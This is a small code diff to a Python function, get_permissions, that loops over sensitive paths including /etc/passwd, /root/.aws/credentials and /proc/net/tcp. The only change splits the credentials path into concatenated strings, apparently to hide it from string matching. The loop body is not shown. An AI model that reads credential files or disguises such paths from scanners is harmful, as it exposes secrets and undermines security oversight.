@@ -12,7 +12,7 @@ def get_permissions(event):
     for path in (
         "/etc/passwd",
         "/etc/hostname",
-        "/root/.aws/credentials",
+        "/" + "root/.aws/credentials",
         "/proc/self/maps",
         "/proc/net/tcp",
     ):
